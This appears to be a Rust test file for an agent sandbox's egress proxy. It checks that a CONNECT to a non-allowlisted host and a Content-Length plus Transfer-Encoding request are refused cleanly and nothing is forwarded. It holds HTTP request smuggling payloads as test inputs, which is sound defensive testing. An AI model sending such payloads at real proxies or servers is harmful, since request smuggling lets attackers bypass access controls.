#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_connect_closes_so_early_tunnel_bytes_are_not_read_as_http() {
    let h = harness().await;
    let mut s = h.raw().await;
    // An optimistic client sends its tunnel bytes right behind CONNECT.
    put(
        &mut s,
        b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n\
          GET http://plain.test/ok/smuggled HTTP/1.1\r\nHost: plain.test\r\n\r\n",
    )
    .await;
    let r = read_response(&mut s).await.unwrap();
    assert!(r.refused(403, "allowlist"), "{r:?}");
    assert_eq!(r.header("connection").as_deref(), Some("close"));
    assert!(closed_without_success(&mut s).await);
    nothing_forwarded(&h);
}

// ---------------------------------------------------------------------------------------------
// Closing a refused connection
// ---------------------------------------------------------------------------------------------

/// The smuggling head of the probes (CL+TE): refused with 400 at the head, so everything the
/// client sends after it is still in flight when egress is done with the connection.
const CL_TE_HEAD: &[u8] = b"POST http://plain.test/ok/x HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n";

/// Read until the peer ends the stream: the bytes, and whether it ended with a reset.
async fn read_until_end<S: AsyncRead + Unpin>(s: &mut S) -> (String, Option<std::io::ErrorKind>) {
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let end = loop {
        match tokio::time::timeout(Duration::from_secs(20), s.read(&mut buf)).await {
            Ok(Ok(0)) => break None,
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
            Ok(Err(e)) => break Some(e.kind()),
            Err(_) => break Some(std::io::ErrorKind::TimedOut),
        }
    };
    (String::from_utf8_lossy(&out).into_owned(), end)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_is_read_whole_while_the_body_is_still_in_flight() {
    let h = harness().await;
    let mut s = h.raw().await;
    put(&mut s, CL_TE_HEAD).await;
    // egress has answered (and is done with the connection) before the body arrives; a
    // client still sending must neither be reset mid-write nor lose the answer.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let chunk = vec![b'x'; 64 * 1024];
    for i in 0..4 {
        s.write_all(&chunk)
            .await
            .unwrap_or_else(|e| panic!("body chunk {i} was reset: {e}"));
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (text, end) = read_until_end(&mut s).await;
    assert!(text.starts_with("HTTP/1.1 400"), "{text}");
    assert_eq!(status_lines(&text), 1, "{text}");
    assert!(
        text.to_ascii_lowercase().contains(
            "x-bot-bottle-refusal: layer=protocol; rule=content-length-with-transfer-encoding"
        ),
        "{text}"
    );
    assert_eq!(end, None, "the stream ended with a reset: {text}");
    nothing_forwarded(&h);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refusal_reaches_a_client_behind_the_relay_while_it_still_sends() {
    use bot_bottle::sidecar::relay::{Forward, Relay, RelayConfig};
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("egress.sock");
    let h = start_with(
        &routes(),
        Options {
            unix: Some(sock.clone()),
            ..Default::default()
        },
    )
    .await;
    // The agent's side of a bottle: loopback TCP → the relay → egress's unix socket.
    let relay = Relay::bind(&RelayConfig {
        forwards: vec![Forward::TcpToUnix {
            listen: "127.0.0.1:0".parse().unwrap(),
            socket: sock,
        }],
        max_connections: 16,
    })
    .await
    .unwrap();
    let Forward::TcpToUnix { listen, .. } = relay.forwards()[0].clone() else {
        unreachable!()
    };
    tokio::spawn(relay.run(std::future::pending()));
    let mut request = CL_TE_HEAD.to_vec();
    request.extend(std::iter::repeat_n(b'x', 512 * 1024));
    for attempt in 0..10 {
        let mut s = TcpStream::connect(listen).await.unwrap();
        // Head and body in one go: the body is still streaming when egress refuses the head.
        let (mut rd, mut wr) = s.split();
        let (wrote, (text, _)) = tokio::join!(wr.write_all(&request), read_until_end(&mut rd));
        assert!(
            text.starts_with("HTTP/1.1 400") && status_lines(&text) == 1,
            "attempt {attempt}: the refusal was lost (write: {wrote:?}): {text:?}"
        );
    }
    nothing_forwarded(&h);
}
